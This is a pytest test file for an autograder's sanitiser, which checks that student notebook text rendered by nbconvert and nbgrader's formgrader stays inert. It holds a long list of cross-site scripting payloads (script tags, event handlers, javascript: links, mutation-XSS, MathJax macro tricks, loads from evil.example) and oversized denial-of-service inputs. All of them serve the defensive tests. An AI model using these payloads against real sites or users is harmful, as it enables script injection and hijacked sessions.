"""What a student wrote does nothing in the pages that nbconvert and formgrader make of it."""

from __future__ import annotations

import base64
import functools
import re
import unicodedata
from collections.abc import Mapping
from html import unescape
from html.parser import HTMLParser
from typing import Any

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbconvert.filters import ansi2html
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from autograder.sanitise import MAX_SIDE, MAX_TEXT, as_text, clean_html, clean_markdown, clean_outputs

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # one pixel
GIF = "R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs="
JPEG = base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(20)).decode()
WEBP = base64.b64encode(b"RIFF\x1a\x00\x00\x00WEBPVP8 " + bytes(20)).decode()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><circle r="4"/></svg>'
IMAGE = f"data:image/png;base64,{PNG}"

ATTACKS = [
    # scripts and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src='data:text/javascript,alert(1)'></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    f'<img src="{IMAGE}" onload="alert(1)">',
    f"<img src='{IMAGE}\" onerror=\"alert(1)'>",
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onclick\x00=alert(1)>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)//>x</p>",
    # links
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='files/javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='https:logout'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href=extra.html ping=//evil.example target=_top download>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScript&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](files/javascript:alert(1))",
    "[x](/files/javascript:alert(1))",
    '[x](https://a.example "\\" onclick=alert(1) x=\\"")',
    '[x](https://a.example/"onclick=alert(1)//)',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'onclick=alert(1)'",
    "<javascript:alert(1)>",
    "[x](extra.html)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    # what loads
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png srcset='//evil.example/2x.png 2x'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/png;base64,PHNjcmlwdD4='>",
    f"<img src='data:image/svg+xml,{SVG}'>",
    "<img src=extra.png>",
    "![x](https://evil.example/x.png)",
    "![x][y]\n\n[y]: //evil.example/x.png",
    '![x" onerror="alert(1)](x.png)',
    f"![x]({IMAGE}\"onerror=\"alert(1))",
    "![x](attachment:missing.png)",
    '![x](attachment:a"onerror=alert(1)".png)',
    "$![x](https://evil.example/x.png)$",
    "<picture><source srcset=//evil.example><img src=x></picture>",
    "<table background=//evil.example/x.png><tr><td background=//evil.example>x</table>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # forms
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<textarea></textarea><select><option>x</select>",
    "- [x] done <input type=submit>",
    # style, ids and the page around
    "<style>@import '//evil.example/x.css'; body {display: none}</style>",
    "<style>x</style><div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<svg><style>*{display:none}</style></svg>",
    "<div id=test_double class='score tabbable nbgrader_cell'>x</div>",
    "<a id=statusmessage name=formgrader>x</a>",
    "<form id=notebook></form>",
    "<div data-toggle=modal data-target='<img src=x onerror=alert(1)>' data-link=x>x</div>",
    "<span class=tex2jax_process>x</span><div class=mermaid>graph</div>",
    f"<img src='{IMAGE}' width=99999 height=100%>",
    "# test_double",
    "# notebook-container\n\n## <b onclick=alert(1)>statusmessage</b>",
    "</div></div></div></body></html><h1>free</h1>",
    "<table></td></tr></table></div><tr><td></div>",
    "<b><i><u>open",
    "<!-- open",
    "<pre><code>open",
    # mutations, foreign content, comments
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--a--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
    "<a title='x></a><script>alert(1)</script>",
    "<p title=\"`<img src=x onerror=alert(1)>`\">x</p>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\ud800<img src=x onerror=alert(1)>",
    # Markdown around HTML
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "```python\"onclick=alert(1)\n<script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`` `<img src=x onerror=alert(1)>` ``",
    "|a|b|\n|-|:-:|\n|<img src=x onerror=alert(1)>|<script>alert(1)</script>|",
    "> - <iframe src=//evil.example>\n>   <b onclick=alert(1)>",
    "$<script>alert(1)</script>$",
    "\\begin{a}<img src=x onerror=alert(1)>\\end{a}",
    "term\n: <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; <b onclick=alert(1)>&amp;lt;script&amp;gt;</b>",
    # MathJax
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\style{position:fixed;inset:0}{x}\\class{score}{y}\\cssId{test_double}{z}$$",
    "\\\\(\\require{action}\\toggle{a}{b}\\endtoggle\\\\)",
    "\\begin{align}\\unicode[x;y]{65}\\htmlClass{score}{x}\\data{toggle=x}{y}\\end{align}",
    "$\\mmlToken{mi}[href='javascript:alert(1)']{x}$",
    "$\\def\\alpha{x}\\let\\x\\href\\newcommand{\\sum}{1}$",
    "$\\hr<wbr>ef{javascript:alert(1)}{x}$",
    "<p>$\\hr<!-- -->ef{javascript:alert(1)}{x}$</p>",
    "<p>$\\hr\x01ef{javascript:alert(1)}{x}$</p>",
    "<p>$&#92;h&#114;ef{javascript:alert(1)}{x}$</p>",
    "\\\\&#99;lass{score}{x} $x$",
    "\\\\&#104;ref{javascript:alert(1)}{x} $x$",
    "<p>$\\href{javascript:alert(1)}{<br>x}$</p>",
]  # fmt: skip
# fmt: off
HARMLESS_TAGS = {
    "a", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1", "h2", "h3", "hr", "i",
    "img", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "th",
    "thead", "tr", "u", "ul",
}
# fmt: on
VOID = {"br", "hr", "img", "meta", "link", "input"}
MACRO = re.compile(
    r"\\(href|style|class|cssId|require|unicode|html\w*|data|toggle|mmlToken|def|let|newcommand)(?![A-Za-z])"
)


class Page(HTMLParser):
    """The tags within what is the student's, and all the others."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.inside: list[tuple[str, dict[str, str]]] = []
        self.outside: list[str] = []
        self.text = ""
        self.seen_by_mathjax = ""
        self._path: list[tuple[str, bool]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        students = bool(self._path) and self._path[-1][1]
        if students:
            self.inside.append((tag, attributes))
        else:
            self.outside.append(f"<{tag}>")
        if tag not in VOID:
            is_theirs = {"text_cell_render", "output_subarea"} & set(attributes.get("class", "").split())
            self._path.append((tag, students or bool(is_theirs)))

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        opened, _ = self._path.pop()
        assert opened == tag
        if not self._path or not self._path[-1][1]:
            self.outside.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        assert not (self._path and self._path[-1][1])

    def handle_data(self, data: str) -> None:
        if self._path and self._path[-1][1]:
            self.text += data
            if not {"pre", "code"} & {tag for tag, _ in self._path}:
                self.seen_by_mathjax += data


@functools.cache
def exporter(template: str) -> HTMLExporter:
    config = Config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]  # as in nbgrader's formgrader.py
    return HTMLExporter(config=config)


def export(cells: list[Any], template: str = "formgrade") -> str:
    notebook = nbformat.v4.new_notebook(cells=cells)
    nbformat.validate(notebook)
    resources = {
        "assignment_id": "a", "notebook_id": "n", "submission_id": "s", "index": 0, "total": 1, "base_url": "",
        "student": "ada", "last_name": None, "first_name": None, "notebook_path": "n.ipynb",
    }  # fmt: skip
    html, _ = exporter(template).from_notebook_node(notebook, resources=resources)
    return str(html)


def markdown_cell(source: str, attachments: Mapping[str, Any] | None = None) -> Any:
    source, kept = clean_markdown(source, attachments or {})
    return nbformat.v4.new_markdown_cell(source, attachments=kept)


def code_cell(*outputs: dict[str, Any]) -> Any:
    return nbformat.v4.new_code_cell("1", outputs=[nbformat.from_dict(output) for output in clean_outputs(outputs)])


def display(data: object, metadata: object = None, **more: object) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata, **more}


def cells_with(text: str) -> list[Any]:
    """A student's text wherever it may stand."""
    kinds = ("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png")
    return [
        markdown_cell(text),
        markdown_cell(as_text(text)),
        code_cell(*(display({kind: text}) for kind in kinds)),
        code_cell(
            display({text: text}),
            display({f'image/png" onload="{text}': PNG}),
            display({"image/png": PNG}, {"image/png": {"width": text, "height": text, "alt": text}, "alt": text}),
            {"output_type": "stream", "name": text, "text": text},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]},
            {"output_type": text, "data": text},
        ),
    ]


def page_of(text: str, template: str = "formgrade") -> Page:
    return Page(export(cells_with(text), template))


@functools.cache
def outside_of_a_quiet_page() -> list[str]:
    return page_of("quiet").outside


def assert_harmless(page: Page) -> None:
    for tag, attributes in page.inside:
        assert tag in HARMLESS_TAGS
        for name, value in attributes.items():
            assert name in (
                "class",
                "href",
                "src",
                "alt",
                "title",
                "rel",
                "tabindex",
                "width",
                "height",
                "align",
                "start",
            )
            if name == "class":  # nbconvert's own
                assert re.fullmatch(r"highlight|language-\w+|[a-z]\w{0,2}|", value)
            if name == "href":
                assert re.match(r"https?://[a-z]|mailto:|#", value)
            if name == "src":
                assert re.fullmatch(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,[A-Za-z0-9+/=]+", value)
            if name in ("width", "height"):
                assert 0 <= int(value) <= MAX_SIDE
    if re.search(r"\$|\\[(\[]|\\begin", page.seen_by_mathjax):
        assert not MACRO.search(page.seen_by_mathjax)


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_of_a_students_is_live_in_formgraders_page(text: str) -> None:
    page = page_of(text)
    assert_harmless(page)
    assert page.outside == outside_of_a_quiet_page()


@pytest.mark.parametrize("template", ["classic", "basic"])
def test_nothing_is_live_in_nbconverts_own_pages(template: str) -> None:
    assert_harmless(Page(export([cell for text in ATTACKS for cell in cells_with(text)[::2]], template)))


@pytest.mark.parametrize("text", ATTACKS)
def test_cleaning_again_changes_nothing(text: str) -> None:
    source, attachments = clean_markdown(text, {})
    assert clean_markdown(source, attachments) == (source, attachments)
    html = clean_html(text)
    assert clean_html(html) == html
    outputs = clean_outputs([display({"text/html": text}), display({"text/markdown": text})])
    assert clean_outputs(outputs) == outputs


@pytest.mark.parametrize("text", ATTACKS)
def test_what_replaces_markdown_is_html_that_no_renderer_interprets_again(text: str) -> None:
    source, _ = clean_markdown(text, {})
    if source != text:
        assert markdown2html_mistune(source).rstrip("\n") == source
        between_tags = re.sub(r"<[^>]*>", "", source)
        assert not re.search(r"[^\w\s&#;]", between_tags.encode("ascii", "ignore").decode())
        assert "\n" not in source


@pytest.mark.parametrize(
    "text",
    [
        "$![x](https://evil.example/x.png)$",
        "$<script>alert(1)</script>$",
        "$[x](javascript:alert(1))$",
        "```\n<img src=x onerror=alert(1)>\n```",
        "`$\\href{javascript:alert(1)}{x}$`",
    ],
)
def test_what_only_another_renderer_might_run_is_replaced_too(text: str) -> None:
    assert clean_html(markdown2html_mistune(text)) == clean_html(clean_markdown(text, {})[0])[5:-6]
    assert clean_markdown(text, {})[0] != text


# --- what has to survive ---

KEPT_MARKDOWN = [
    "hello *world*, **strong**, `code`",
    "- a\n- b\n\n1. c\n2. d\n\n> quote",
    "[a link](https://example.org/a?b=c#d) and <https://example.org>, https://example.org, [here](#there)",
    "$a_i < b^2$, $$\\frac{1}{\\sqrt{d}}$$ and \\\\(x\\\\)",
    "\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}",
    "```\nif a<b: c & d\n```",
    "```python\nif a<b: x = {'k': 1}\n```",
    "line<br>break H<sub>2</sub>O <b>bold</b>",
    f"![figure]({IMAGE})",
    "costs $5; see C:\\data\\class",
    "",
]


@pytest.mark.parametrize("source", KEPT_MARKDOWN)
def test_harmless_markdown_is_kept_letter_by_letter(source: str) -> None:
    assert clean_markdown(source, {}) == (source, {})


def shown(source: str, attachments: Mapping[str, Any] | None = None) -> str:
    """The student's part of formgrader's page of a cleaned Markdown cell."""
    return clean_html(
        export([markdown_cell(source, attachments)]).split('rendered_html">')[1].split('<div class="help">')[0]
    )


def test_a_heading_and_a_table_are_kept_as_html() -> None:
    page = shown("# Title\n\n|a|b|\n|:-|-:|\n|1|*2*|\n")
    assert "<h1>Title</h1>" in page
    assert re.search(r'<td align="left">1</td>\s*<td align="right"><em>2</em></td>', page)


def test_maths_beside_something_harmful_is_kept() -> None:
    source, _ = clean_markdown("# Title\n\n$a_i < b$ and \\begin{align}x &= \\frac{1}{2} \\\\ y\\end{align}", {})
    text = Page(export([nbformat.v4.new_markdown_cell(source)])).seen_by_mathjax
    assert "$a_i < b$" in text
    assert "\\begin{align}x &= \\frac{1}{2} \\\\ y\\end{align}" in text


def test_code_beside_something_harmful_is_kept() -> None:
    page = Page(export([markdown_cell("# Title\n\n```python\nif a<b and c & d:\n    \\href$\n```\n\n`$\\def<p>$`")]))
    assert "if a<b and c & d:\n    \\href$\n" in page.text
    assert "$\\def<p>$" in page.text


def test_a_task_list_is_kept_without_its_inputs() -> None:
    assert "☑ done" in shown("- [ ] to do\n- [x] done")


def test_a_fence_in_another_language_is_kept_as_text() -> None:
    assert "<pre><code>graph &lt;b&gt;\n</code></pre>" in shown("```mermaid\ngraph <b>\n```")
    assert "<pre><code>puts 1\n</code></pre>" in shown("```ruby\nputs 1\n```")


def test_links_lead_out_without_a_trace() -> None:
    assert clean_html("<a href='https://a.example/?b=c' target=_top rel=opener>x</a>") == (
        '<a href="https://a.example/?b=c" rel="noopener noreferrer nofollow">x</a>'
    )


def test_an_image_that_may_not_load_leaves_its_description() -> None:
    assert clean_html('<img src=//evil.example alt="a < b">') == "a &lt; b"


def test_an_attached_image_is_kept() -> None:
    attachments = {"a.png": {"image/png": PNG}}
    assert clean_markdown("![](attachment:a.png)", attachments) == ("![](attachment:a.png)", attachments)
    assert f'src="{IMAGE}"' in shown("# Title\n![](attachment:a.png)", attachments)


def test_an_attached_image_is_found_by_a_name_that_nbconvert_would_not_find() -> None:
    assert f'src="{IMAGE}"' in shown("![](<attachment:my figure.png>)", {"my figure.png": {"image/png": PNG}})


def test_only_images_are_kept_as_attachments() -> None:
    bad: dict[Any, Any] = {
        "x" * 1000: {"image/png": PNG},
        "a": {"text/html": PNG},
        "b": {"image/png": "PHNjcmlwdD4="},
        "c": {"image/png": f'{PNG}" onerror="alert(1)'},
        "d": {'image/png" x="': PNG},
        "e": {},
        "f": [PNG],
        "g": {"image/png": 3},
        3: {"image/png": PNG},
        "h\n": {"image/png": PNG},
    }
    lines = {"ok": {"image/png": [PNG[:40] + "\n", PNG[40:]], "text/html": "x"}}
    assert clean_markdown("text", {**bad, **lines}) == ("text", {"ok": {"image/png": PNG}})
    for odd in ([], "x", None):
        assert clean_markdown("text", odd) == ("text", {})  # type: ignore[arg-type]


def test_a_pandas_table_is_kept() -> None:
    html = """<div>
<style scoped>
    .dataframe tbody tr th {vertical-align: top;}
</style>
<table border="1" class="dataframe">
  <thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead>
  <tbody><tr><th>0</th><td>1 &lt; 2</td></tr><tr><td colspan="2">x</td></tr></tbody>
</table>
<p>1 rows × 2 columns</p>
</div>"""
    clean = clean_html(html)
    assert '<table border="1">' in clean
    assert '<tr align="right"><th></th><th>a</th></tr>' in clean
    assert '<td>1 &lt; 2</td></tr><tr><td colspan="2">x</td>' in clean
    assert "<p>1 rows × 2 columns</p>" in clean
    assert "scoped" not in clean
    assert "vertical-align" not in clean


@pytest.mark.parametrize(
    ("kind", "data"),
    [("image/png", PNG), ("image/jpeg", JPEG), ("image/gif", GIF), ("image/webp", WEBP), ("image/svg+xml", SVG)],
)
def test_an_image_is_shown_in_its_size_and_as_an_image(kind: str, data: str) -> None:
    size = {kind: {"width": 30, "height": 20, "alt": "x", "unconfined": True}, "isolated": True}
    page = Page(export([code_cell(display({kind: data, "text/plain": "<Figure>"}, size))]))
    expected = base64.b64encode(SVG.encode()).decode() if data == SVG else data
    [(tag, attributes)] = page.inside
    assert (tag, attributes["src"]) == ("img", f"data:{kind};base64,{expected}")
    assert (attributes["width"], attributes["height"]) == ("30", "20")
    assert "class" not in attributes


def test_lines_of_html_and_breaks_in_pre_are_kept() -> None:
    [output] = clean_outputs([display({"text/html": ["<pre>\n\n a\n", "\tb</pre>"]})])
    assert output["data"]["text/html"] == "<pre>\n\n a\n\tb</pre>"


def test_markdown_of_an_output_becomes_html() -> None:
    [output] = clean_outputs([display({"text/markdown": "**a** $x_1$ <script>x</script>", "text/plain": "a"})])
    assert output["data"] == {"text/html": "<p><strong>a</strong> $x_1$ </p>\n", "text/plain": "a"}


def test_html_that_was_nothing_but_a_script_gives_way_to_the_plain_text() -> None:
    [output] = clean_outputs([display({"text/html": "<div><script>x</script></div>", "text/plain": "<Plot>"})])
    assert output["data"] == {"text/plain": "<Plot>"}


def test_what_cannot_be_shown_says_so() -> None:
    kinds = (
        "application/javascript",
        "application/vnd.jupyter.widget-view+json",
        "text/vnd.mermaid",
        "application/pdf",
    )
    for kind in kinds:
        [output] = clean_outputs([display({kind: "alert(1)"})])
        assert output["data"] == {"text/plain": f"[an output of type {kind} is not shown]"}
    [output] = clean_outputs([display({"<script>": "x"})])
    assert output["data"] == {"text/plain": "[an output of type ? is not shown]"}


def test_json_is_shown_as_text() -> None:
    [output] = clean_outputs([display({"application/json": {"a": ["<b>", 1]}})])
    assert output["data"].keys() == {"text/plain"}
    assert '"<b>"' in output["data"]["text/plain"]


def test_streams_and_errors_are_kept_with_their_colours() -> None:
    stream = {"output_type": "stream", "name": "stdout", "text": "a < b & \x1b[1;31mred\x1b[0m\n\tc"}
    error = {
        "output_type": "error",
        "ename": "E",
        "evalue": "<v>",
        "traceback": ["\x1b[38;5;12mx\x1b[39m", "\x1b[38;2;1;2;3my"],
    }
    assert clean_outputs([stream, error]) == [stream, error]


@pytest.mark.parametrize(
    "text", ["\x1b[38m", "\x1b[1;48m", "\x1b[038m", "\x1b[38;m", "\x1b[0;38;5m", "\x1b[" + "9" * 5000 + "m"]
)
def test_a_colour_that_is_cut_off_does_not_stop_the_page(text: str) -> None:
    [output] = clean_outputs([{"output_type": "stream", "name": "stdout", "text": f"a{text}<b>"}])
    assert re.sub(r"</?span[^>]*>", "", str(ansi2html(output["text"]))).startswith("a")
    assert "<b>" not in ansi2html(output["text"])


def test_other_control_sequences_are_dropped() -> None:
    text = "a\x1b[2J\x1b]8;;javascript:x\x1b\\b\x1b\x1b[5n[38m\x00\x07c\x1b"
    [output] = clean_outputs([{"output_type": "stream", "text": text}])
    assert output == {"output_type": "stream", "name": "stdout", "text": "ab[38mc"}


ODD: list[Any] = [None, 3, True, 1.5, "x", [], {}, ["x", 3], {"a": {"b": "c"}}, [[]], "\ud800", float("nan")]


@pytest.mark.parametrize("odd", ODD, ids=repr)
def test_any_field_may_hold_anything(odd: Any) -> None:
    kinds = ("text/plain", "text/html", "text/markdown", "text/latex", "image/png", "image/svg+xml", "application/json")
    outputs: list[Any] = [
        odd,
        {"output_type": odd},
        {"output_type": "stream", "name": odd, "text": odd},
        {"output_type": "error", "ename": odd, "evalue": odd, "traceback": odd},
        {"output_type": "error", "traceback": [odd]},
        display(odd, odd),
        display({"image/png": PNG}, {"image/png": odd}),
        display({"image/png": PNG}, {"image/png": {"width": odd, "height": odd}}),
        *({"output_type": "execute_result", "data": {kind: odd}, "execution_count": odd} for kind in kinds),
    ]
    outputs = clean_outputs(outputs)
    export([nbformat.v4.new_code_cell("1", outputs=[nbformat.from_dict(output) for output in outputs])])
    str(outputs).encode()


def test_numbers_of_outputs_and_sizes_of_images_are_bounded_integers() -> None:
    def count(value: Any) -> Any:
        [output] = clean_outputs([{"output_type": "execute_result", "data": {}, "execution_count": value}])
        return output["execution_count"]

    assert [count(value) for value in (3, True, -1, "3", 2**70, 3.0)] == [3, None, None, None, None, None]
    sizes: list[Any] = [0, -3, True, "3", 1e3, MAX_SIDE + 1]
    for size in sizes:
        [output] = clean_outputs([display({"image/png": PNG}, {"image/png": {"width": size, "height": 7}})])
        assert output["metadata"] == {"image/png": {"height": 7}}


def test_an_image_is_what_its_type_says() -> None:
    for kind, data in (("image/png", GIF), ("image/jpeg", PNG), ("image/png", PNG + "!"), ("image/png", f'{PNG}" x="')):
        [output] = clean_outputs([display({kind: data})])
        assert output["data"] == {"text/plain": f"[an output of type {kind} is not shown]"}


def test_prose_and_code_keep_their_backslashes() -> None:
    assert clean_html("<p>C:\\data\\class costs $5</p>") == "<p>C:\\data\\class costs $5</p>"
    assert clean_html("<p>$x$ <code>\\href</code></p><pre>$\\def$</pre>").count("\\") == 2
    [output] = clean_outputs([display({"text/plain": "$\\href{x}$"})])
    assert output["data"] == {"text/plain": "$\\href{x}$"}  # nbconvert shows it in <pre>, which MathJax skips


def test_a_macro_that_is_out_of_order_still_reads_the_same() -> None:
    [output] = clean_outputs([display({"text/latex": "$\\href{x}{y} \\\\[-9em] \\frac{1}{2}$"})])
    assert unicodedata.normalize("NFKC", output["data"]["text/latex"]) == "$\\href{x}{y} \\\\[−9em] \\frac{1}{2}$"  # noqa: RUF001


BOMBS = [
    "<div>" * 200_000,
    "<b a=1>" * 100_000,
    "<p>" + "".join(f"<b a={n}>" for n in range(1_000)) + "</p>" + "<p>x" * 5_000,
    "<a " + " ".join(f"a{n}" for n in range(200_000)) + ">",
    "<a " + " ".join(f"a{n}='>'" for n in range(100_000)) + ">",
    "<table><tr><td>" * 50_000,
    "<" * 1_000_000,
    "<!--" * 200_000,
    "&" * 1_000_000,
    "x" * 3_000_000,
    "> " * 5_000 + "x",
    "[" * 20_000,
    "\\\\(" * 7_000,
    "\\begin{a}" * 5_000,
    "*a_" * 6_000,
    "=\na\n" * 4_000,
    "```python\n" + "(" * 19_000 + "\n```",
    "```perl\n" + "m" * 19_000 + "\n```",
    "`" * 20_000,
    "\x1b[1mx" * 200_000,
    "\xa0" * 500_000,
    "'" * 500_000,
    "~" * 2_000_000,
]


@pytest.mark.parametrize("text", BOMBS, ids=lambda text: repr(text[:20]))
def test_huge_and_deep_input_is_bounded(text: str) -> None:
    source, attachments = clean_markdown(text, {})
    assert clean_markdown(source, attachments) == (source, attachments)
    assert max(len(source), len(clean_html(text))) < 8_000_000
    assert_harmless(
        Page(
            export(
                [
                    code_cell(
                        *(display({kind: text}) for kind in ("text/html", "text/markdown", "text/latex", "text/plain"))
                    )
                ]
            )
        )
    )


def test_a_text_is_cut_where_it_would_keep_the_page_busy() -> None:
    assert clean_outputs([display({"text/plain": "x<" * 60_000})])[0]["data"]["text/plain"].endswith("x<x […]")
    assert clean_outputs([display({"text/plain": "x" * 900_000})])[0]["data"]["text/plain"] == "x" * 900_000


def test_depth_is_bounded() -> None:
    assert clean_html("<div>" * 9_000 + "x").count("<div>") <= 100


def test_a_text_that_is_no_markdown_is_shown_letter_by_letter() -> None:
    text = "\n # <b>no</b> *markdown* $x$ &amp; `a`\n\n"
    assert Page(export([nbformat.v4.new_markdown_cell(as_text(text))])).text.strip("\n") == text.strip("\n")
    assert unescape(as_text("x" * (MAX_TEXT + 1))).endswith("x […]</pre></div>")
